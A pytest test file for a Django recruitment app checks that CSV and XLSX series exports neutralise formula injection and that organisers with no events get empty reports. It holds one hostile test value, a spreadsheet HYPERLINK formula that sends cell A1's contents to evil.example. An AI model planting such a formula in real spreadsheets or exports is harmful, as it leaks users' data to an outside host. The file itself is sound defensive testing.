"""The series exports (the audit's M3 and a low finding): formulas are neutralised in every cell, and
an organiser with no events gets empty files, not a 500."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kobling.events.models import Event
from tests.conftest import login

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Se resultatene")'


def test_an_event_title_that_looks_like_a_formula_is_plain_text_in_csv_and_xlsx(
    client, world, market_coordinator
):
    event, _interviews = world
    Event.objects.filter(pk=event.pk).update(title=EVIL)
    login(client, market_coordinator)
    rows = list(csv.reader(io.StringIO(client.get(reverse("recruitment_series_csv")).content.decode())))
    titles = [row[1] for row in rows if len(row) > 1 and "HYPERLINK" in row[1]]
    assert titles == ["'" + EVIL]
    workbook = load_workbook(io.BytesIO(client.get(reverse("recruitment_series_xlsx")).content))
    cells = [c for row in workbook.worksheets[0].iter_rows() for c in row if c.value == EVIL]
    assert len(cells) == 1 and cells[0].data_type == "s"


@pytest.mark.parametrize("name", ["recruitment_series_csv", "recruitment_series_xlsx", "recruitment_series"])
def test_an_organiser_with_no_events_gets_an_empty_report(client, other_market, name):
    response = login(client, other_market).get(reverse(name))
    assert response.status_code == 200
